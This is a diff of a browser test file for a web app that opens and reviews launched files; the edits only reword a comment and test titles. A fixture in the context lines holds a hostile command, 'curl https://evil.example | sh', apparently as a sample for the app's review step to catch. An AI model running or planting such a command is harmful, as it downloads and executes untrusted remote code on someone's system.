@@ -7,7 +7,7 @@ interface Launch {
 
 declare global {
   interface Window {
-    /** What the page does with files that it is opened with. */
+    /** How the page handles files that it is opened with. */
     takeLaunched?: (launch: Launch) => void;
   }
 }
@@ -29,7 +29,7 @@ resources:
     properties: { create: "curl https://evil.example | sh" }
 `;
 
-test("files that are opened with the installed page are read and reviewed as others are", async ({
+test("files opened with the installed page are read and reviewed like others", async ({
   designer,
   page,
 }) => {
@@ -58,7 +58,7 @@ test("files that are opened with the installed page are read and reviewed as oth
   await expect(page.getByRole("status").getByText(/^notes\.yaml/)).toBeVisible();
 });
 
-test("the browser finds nothing wrong with the page's manifest", async ({ designer, page }) => {
+test("the browser accepts the page's manifest", async ({ designer, page }) => {
   await designer.open();
   const client = await page.context().newCDPSession(page);
   const { url, errors, data = "{}" } = await client.send("Page.getAppManifest");
